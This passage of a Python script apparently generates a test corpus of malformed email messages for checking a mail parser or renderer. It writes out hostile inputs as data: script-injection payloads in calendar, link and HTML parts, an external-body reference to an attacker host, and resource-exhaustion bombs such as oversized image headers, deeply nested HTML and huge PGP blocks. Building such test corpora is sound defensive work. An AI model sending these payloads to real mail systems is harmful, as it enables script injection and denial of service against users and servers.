add("pgp-encrypted", multipart(part("application/pgp-encrypted", "Version: 1\r\n"), part("application/octet-stream; name=encrypted.asc", "-----BEGIN PGP MESSAGE-----\r\n\r\nhQ\r\n-----END PGP MESSAGE-----\r\n"), kind="encrypted"))
add("pgp-inline-bomb", lambda: head("pgp") + b"-----BEGIN PGP MESSAGE-----\r\n\r\n" + b"QUFB" * 15 + b"\r\n" + (b"A" * 76 + b"\r\n") * 50000, huge=True)
add("tnef", multipart(TEXT, part("application/ms-tnef; name=winmail.dat", b"\x78\x9f\x3e\x22" + b"\xff" * 5000, "Content-Disposition: attachment; filename=winmail.dat")))
add("tnef-root", head("tnef", "Content-Type: application/ms-tnef", "Content-Transfer-Encoding: base64") + wrap(b"\x78\x9f\x3e\x22\x01\x00" + b"\x01\x90\x02\x00\xff\xff\xff\x7f" * 100))
add("external-body", multipart(TEXT, f'Content-Type: message/external-body; access-type=URL; URL="{EVIL}/x"\r\n\r\nContent-Type: text/html\r\n\r\n'.encode()))
add("partial", head("partial", 'Content-Type: message/partial; id="x"; number=1; total=99999999') + b"Subject: inner\r\n\r\nx\r\n")
add("delivery-status", multipart(TEXT, f"Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; {SCRIPT}\r\n\r\nDiagnostic-Code: smtp; 550 {SCRIPT}\r\n".encode(), kind="report"))
add("calendar", multipart(part("text/calendar; method=REQUEST", f"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:{SCRIPT}\r\nURL:javascript:{PWN}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"), kind="alternative"))
add("enriched", head("rich", "Content-Type: text/enriched") + f"<bold>x</bold><param>{SCRIPT}</param>\r\n".encode())
add("alternatives", multipart(*(part(kind, f"<p>{kind}</p>{SCRIPT}") for kind in ("text/plain", "text/html", "text/html", "text/x-amp-html", "application/xhtml+xml")), kind="alternative"), has_html=True)
add("picture-bomb", multipart(TEXT, part("image/png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xff\xff\x00\xff\xff\xff\x00\x08\x06\0\0\0" + b"\0" * 100, "Content-Disposition: attachment; filename=bomb.png"),
                              part("image/gif", b"GIF89a\xff\xff\xff\xff\x80\0\0" + b"\0" * 100, "Content-Disposition: attachment; filename=bomb.gif"),
                              part("image/jpeg", b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03" + b"\0" * 100, "Content-Disposition: attachment; filename=bomb.jpg"),
                              part("image/webp", b"RIFF\xff\xff\xff\xffWEBPVP8L" + b"\xff" * 100, "Content-Disposition: attachment; filename=bomb.webp")))
add("text-links", head("links", "Content-Type: text/plain; charset=utf-8") + f"javascript:{PWN}\r\nhttp://evil.invalid/\"onmouseover=\"{PWN}\r\n<{EVIL}/<script>>\r\n{SCRIPT}\r\ndata:text/html,{SCRIPT}\r\n".encode())
add("text-long-line", lambda: head("long") + b"http://" + b"a" * 900 + b"\r\n" * 1 + (b"x" * 990 + b"\r\n") * 8000, huge=True)
add("html-deep", lambda: page("<div>" * 100000 + "deep" + SCRIPT), has_html=True, huge=True)
add("html-attributes", lambda: page("<p " + " ".join(f"a{i}=x" for i in range(100000)) + ">x</p>"), has_html=True, huge=True)
add("html-10mb", lambda: page(("<p>" + "x" * 60 + "</p>\n") * 150000), has_html=True, huge=True)
add("html-entities", lambda: page("&amp;" * 500000 + "&#x3c;script&#x3e;alert(1)" + "&notanentity" * 10000), has_html=True, huge=True)
add("empty", b"\r\n")
add("one-line", b"x")


if __name__ == "__main__":
    for letter in CORPUS.values():
        (pathlib.Path(sys.argv[1]) / f"{letter.name}.eml").write_bytes(letter.octets())
